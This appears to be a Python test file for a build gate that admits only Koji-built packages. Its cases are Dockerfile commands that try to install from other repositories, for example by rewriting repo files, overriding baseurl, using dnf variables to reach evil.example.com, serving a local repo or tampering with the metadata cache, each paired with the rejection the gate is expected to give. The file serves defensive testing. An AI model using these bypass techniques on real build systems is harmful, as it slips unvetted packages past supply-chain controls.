"""Other repositories: dnf pointed somewhere else, or at what no Koji has built."""

from corpus import NOT_KOJI, NOTKOJI, OUTSIDE, Case, python_command

TITLE = "Installing from another repository"
# dnf would ask the gate for it otherwise.
DIRECTLY = "--setopt=proxy=_none_"
WAIT = 'import socket, time\nwhile socket.socket().connect_ex(("127.0.0.1", 8000)): time.sleep(0.05)'
CASES = [
    Case("offered_but_foreign", ("RUN dnf -y install notkoji",), ("notkoji", "(rule unknown-to-koji)")),
    Case("same_name_other_payload", ("RUN dnf -y --repo=tampered install hello",), ("hello", "(rule digest-differs)")),
    Case(
        "blocked_package",
        ("RUN dnf -y install tree",),
        ("(rule blocked-package): `tree` is forbidden (rule packages/orphan: nobody looks after it)", "use find"),
    ),
    # In the stages before and on the way it may be used: see the honest images.
    Case(
        "forbidden_package_left_in_the_image",
        ("RUN dnf -y install jq",),
        ("`jq` is forbidden; requested in `RUN dnf -y install jq` (rule packages/no-jq: jq is for build stages)",),
    ),
    Case(
        "repofrompath",
        ("RUN dnf -y --repofrompath=x,http://mirror.example.com/x --repo=x install notkoji",),
        ("http://mirror.example.com/x/repodata/repomd.xml", OUTSIDE),
    ),
    Case(
        "all_others_disabled",
        ("RUN dnf -y --disablerepo='*' --repofrompath=x,http://mirror.example.com/v --enablerepo=x install notkoji",),
        ("http://mirror.example.com/v/repodata/repomd.xml", OUTSIDE),
    ),
    Case(
        "host_by_releasever",
        ("RUN dnf -y --releasever=evil.example.com --repofrompath='x,http://$releasever/x' --repo=x install notkoji",),
        ("http://evil.example.com/x/repodata/repomd.xml", OUTSIDE),
    ),
    Case(
        "host_by_a_variable_of_dnf",
        (
            "RUN mkdir -p /etc/dnf/vars && echo evil.example.com > /etc/dnf/vars/place"
            " && dnf -y --repofrompath='x,http://$place/x' --repo=x install notkoji",
        ),
        ("http://evil.example.com/x/repodata/repomd.xml", OUTSIDE),
    ),
    Case(
        "own_repo_file",
        (
            r"RUN printf '[x]\nname=x\nbaseurl=http://mirror.example.com/x\ngpgcheck=0\n' > /etc/yum.repos.d/x.repo"
            " && dnf -y --repo=x install notkoji",
        ),
        ("http://mirror.example.com/x/repodata/repomd.xml", OUTSIDE),
    ),
    Case(
        "own_repo_file_from_the_commit",
        ("COPY x.repo /etc/yum.repos.d/", "RUN dnf -y --repo=x install notkoji"),
        ("exit code 1", "Unknown repo: 'x'"),
        files={"x.repo": "[x]\nname=x\nbaseurl=http://mirror.example.com/x\ngpgcheck=0\n"},
    ),
    Case(
        "repo_files_tampered_with",
        (
            "RUN sed -i 's|^baseurl.*|baseurl=http://mirror.example.com/y|' /etc/yum.repos.d/*.repo"
            " && dnf -y --refresh install hello",
        ),
        ("http://mirror.example.com/y/repodata/repomd.xml", OUTSIDE),
    ),
    # The image's own definition of a repository is out of sight, so deleting ours leaves nothing.
    Case(
        "repo_files_deleted",
        ("RUN rm /etc/yum.repos.d/*.repo && dnf -y install hello",),
        ("exit code 1", "There are no enabled repositories"),
    ),
    Case(
        "repo_moved_by_setopt",
        ("RUN dnf -y --refresh --setopt='*.baseurl=http://mirror.example.com/z' install hello",),
        ("http://mirror.example.com/z/repodata/repomd.xml", OUTSIDE),
    ),
    Case(
        "reposdir_in_dnf_conf",
        (
            r"RUN mkdir /tmp/r && printf '[x]\nname=x\nbaseurl=http://mirror.example.com/w\ngpgcheck=0\n'"
            " > /tmp/r/x.repo && echo 'reposdir=/tmp/r' >> /etc/dnf/dnf.conf && dnf -y --repo=x install notkoji",
        ),
        ("http://mirror.example.com/w/repodata/repomd.xml", OUTSIDE),
    ),
    Case(
        "repository_in_the_commit",
        ("COPY repo /r", "RUN dnf -y --repofrompath=x,file:///r --repo=x install notkoji && rm -r /r"),
        (NOT_KOJI, "notkoji-1.0-1", "(unknown-to-koji)"),
        foreign={"repo": "notkoji"},
    ),
    Case(
        "repository_served_by_the_step_itself",
        (
            "COPY repo /r",
            "COPY wait.py /",
            "RUN python3 -m http.server -b 127.0.0.1 -d /r 8000 & python3 /wait.py &&"
            f" dnf -y {DIRECTLY} --repofrompath=x,http://127.0.0.1:8000 --repo=x install notkoji && rm -r /r",
        ),
        (NOT_KOJI, "notkoji-1.0-1", "(unknown-to-koji)"),
        files={"wait.py": WAIT},
        foreign={"repo": "notkoji"},
    ),
    Case(
        "file_of_the_commit_by_dnf",
        ("COPY foreign.rpm /tmp/", "RUN dnf -y install /tmp/foreign.rpm && rm /tmp/foreign.rpm"),
        (NOT_KOJI, "notkoji-1.0-1", "(unknown-to-koji)"),
        foreign={"foreign.rpm": NOTKOJI},
    ),
    # The cache of metadata is in the layer, so a later step could be shown another one.
    Case(
        "metadata_in_dnf_s_cache_edited",
        (
            "RUN dnf -y makecache && "
            + python_command(
                'import glob, gzip; p = [f for f in glob.glob("/var/cache/dnf/notkoji-*/repodata/*primary.xml*")][0];'
                ' z = open(p, "rb").read(); print(p, len(z)); open(p, "wb").write(z[:-20])'
            )
            + " && dnf -y install notkoji",
        ),
        ("notkoji", "(rule unknown-to-koji)"),
    ),
]
